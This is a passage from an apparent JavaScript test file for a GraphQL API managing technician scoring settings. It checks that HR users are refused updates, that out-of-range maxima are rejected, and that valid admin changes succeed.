      '{ technicianScoreSettings { maxima { initiative survey } complaintDeduction gradeThresholds { A B } payRatios { A B C } submissionDueDay } }',
      {},
      hr,
    );
    expect(technicianScoreSettings).toEqual({
      maxima: { initiative: 15, survey: 20 },
      complaintDeduction: 15,
      gradeThresholds: { A: 90, B: 70 },
      payRatios: { A: 1.1, B: 1, C: 0.9 },
      submissionDueDay: 8,
    });
    const input = {
      maxima: { initiative: 15, coordination: 10, loyalty: 15, planning: 5, execution: 5, workQuality: 10, survey: 25, onTimeArrival: 10, firstTimeFix: 10 },
      complaintDeduction: 15,
      gradeThresholds: { A: 90, B: 70 },
      payRatios: { A: 1.1, B: 1, C: 0.9 },
      submissionDueDay: 8,
      promotionGradeACount: 7,
      demotionGradeCCount: 6,
    };
    const mutation = 'mutation ($input: TechnicianScoreSettingsInput!) { updateTechnicianScoreSettings(input: $input) { maxima { survey } } }';
    const byHr = await app.graphql(mutation, { input }, hr);
    expect(byHr.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const admin = await app.loginAs('admin');
    const over = await app.graphql(mutation, { input }, admin);
    expect(over.errors?.[0]?.extensions?.code).toBe('BAD_USER_INPUT');
    const fixed = await app.ok(mutation, { input: { ...input, maxima: { ...input.maxima, survey: 15, firstTimeFix: 15 } } }, admin);
    expect(fixed.updateTechnicianScoreSettings.maxima.survey).toBe(15);
  });
});
